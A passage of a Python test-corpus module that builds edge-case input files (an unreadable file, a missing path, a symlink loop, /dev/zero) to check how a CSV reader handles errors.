    # root reads anything: then the file simply reads
    root = hasattr(os, "geteuid") and os.geteuid() == 0
    out.append(Case("unreadable.csv", "either" if root else "error",
                    "chmod 000" + (" (running as root: readable)" if root else ""), lambda p: None, path=locked))
    out.append(Case("missing.csv", "error", "a path that does not exist", lambda p: None, path=folder / "missing.csv"))
    loop = folder / "loop.csv"
    if not loop.is_symlink():
        os.symlink(folder / "loop2.csv", loop)
        os.symlink(loop, folder / "loop2.csv")
    out.append(Case("loop.csv", "error", "a symlink loop", lambda p: None, path=loop))
    if os.path.exists("/dev/zero"):
        out.append(Case("dev_zero", "error", "a character device (/dev/zero)", lambda p: None,
                        path=Path("/dev/zero")))
    return out


def build_corpus(folder: Path) -> list[Case]:
    """Write every corpus file under ``folder``; return the cases with ``path`` set."""
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for case in cases():
        case.path = folder / case.name
        case.make(case.path)
        out.append(case)
    out.extend(special_cases(folder))
    return out


if __name__ == "__main__":  # python -m tests.corpus DIR: write the corpus to look at it
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus-out")
    for case in build_corpus(target):
        print(f"{case.expect:6} {case.name:32} {case.note}")
